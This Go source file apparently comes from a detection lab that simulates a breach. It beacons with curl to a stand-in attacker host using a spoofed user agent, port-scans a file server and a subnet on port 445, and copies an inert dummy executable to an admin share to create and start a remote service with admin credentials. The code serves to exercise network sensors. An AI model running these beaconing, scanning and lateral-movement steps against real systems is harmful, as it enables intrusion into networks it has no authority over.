package breach

import (
	"context"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/yagura-project/yagura/lab/hall"
)

// beacon polls the breach's server by its bare address until Close, and returns after the first answer.
func (s *Stage) beacon(ctx context.Context) error {
	random := rand.New(rand.NewPCG(66, 1))
	if err := s.poll(ctx, 0); err != nil {
		return ErrCut
	}
	s.background(func(ctx context.Context) {
		for n := 1; pause(ctx, s.o.Beacon+time.Duration(random.Float64()*0.15*float64(s.o.Beacon))); n++ {
			_ = s.poll(ctx, n)
		}
	})
	return nil
}

// poll is one call home: a short form with a number, and a two-letter answer. Every fifth goes over IPv6.
func (s *Stage) poll(ctx context.Context, n int) error {
	url := fmt.Sprintf("http://%s:8080/submit.php", hall.Evil)
	if n%5 == 4 {
		url = fmt.Sprintf("http://[%s]/submit.php", hall.Evil6)
	}
	err := s.run(ctx, hall.Soumu, "curl", "-sf", "-m", "2", "-o", "/dev/null", "-A", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1)",
		"-d", fmt.Sprintf("id=%s&n=%04d", s.h.Node(hall.Soumu).Name, n), url)
	switch {
	case err == nil:
		s.polls.Add(1)
	case ctx.Err() == nil:
		s.cut.Add(1)
	}
	return err
}

// scan knocks at 150 ports of the file server, then at port 445 of 40 addresses of its segment, most of them unused.
func (s *Stage) scan(ctx context.Context) error {
	server := s.h.Node(hall.Files).IPv4
	var doors []netip.AddrPort
	for port := uint16(1); port <= 140; port++ {
		doors = append(doors, netip.AddrPortFrom(server, port))
	}
	for _, port := range []uint16{389, 445, 1433, 3306, 3389, 5432, 5900, 5985, 8080, 8443} {
		doors = append(doors, netip.AddrPortFrom(server, port))
	}
	next := hall.Idle.Addr()
	for range 40 {
		next = next.Next()
		doors = append(doors, netip.AddrPortFrom(next, 445))
	}
	for len(doors) > 0 {
		n := min(20, len(doors))
		if err := s.h.In(hall.Soumu, func() error { return knock(doors[:n]) }); err != nil {
			return err
		}
		if doors = doors[n:]; !pause(ctx, 50*time.Millisecond) {
			return ctx.Err()
		}
	}
	return nil
}

// knock begins a connection to each door at once and leaves after a quarter of a second.
func knock(doors []netip.AddrPort) error {
	var open []int
	defer func() {
		time.Sleep(250 * time.Millisecond)
		for _, fd := range open {
			_ = unix.Close(fd)
		}
	}()
	for _, door := range doors {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return fmt.Errorf("socket: %w", err)
		}
		open = append(open, fd)
		// the outcome does not matter to one who only knocks
		_ = unix.Connect(fd, &unix.SockaddrInet4{Port: int(door.Port()), Addr: door.Addr().As4()})
	}
	return nil
}

// inert is a file with the head of a Windows program and nothing to run: no section, no entry point, text inside.
func inert() []byte {
	const note = "This is a harmless sample for a demonstration. It contains no program. これは無害な見本です。\r\n"
	file := make([]byte, 0x80, 4096)
	copy(file, "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff")
	file[0x3c] = 0x80 // e_lfanew: where the PE header is
	file = append(file, "PE\x00\x00\x64\x86\x00\x00"...)
	file = append(file, make([]byte, 16)...)
	return append(file, strings.Repeat(note, 24)...)
}

// spread copies the inert file to the administrative share and asks the server to make and start a service of it.
// Samba refuses the service: the request is what a sensor must see.
func (s *Stage) spread(all context.Context) error {
	ctx, cancel := context.WithTimeout(all, 20*time.Second)
	defer cancel()
	file := filepath.Join(s.h.Dir(), "YGSVC.exe")
	if err := os.WriteFile(file, inert(), 0o644); err != nil {
		return err
	}
	if err := s.share(ctx, hall.Soumu, hall.AdminShare, "lcd "+s.h.Dir()+"; put YGSVC.exe YGSVC.exe"); err != nil {
		return ErrCut
	}
	for _, ask := range [][]string{
		{"create", "YGSVC", "Yagura sample", `%SystemRoot%\YGSVC.exe`}, {"start", "YGSVC"}, {"list"},
	} {
		args := append([]string{"-s", s.client(hall.Soumu), "rpc", "service"}, ask...)
		args = append(args, "-S", s.h.Node(hall.Files).IPv4.String(), "-U", hall.Admin+"%"+s.h.AdminPassword())
		_ = s.run(ctx, hall.Soumu, "net", args...) // refused or cut: both end here
	}
	if ctx.Err() != nil && all.Err() == nil {
		return ErrCut
	}
	return all.Err()
}
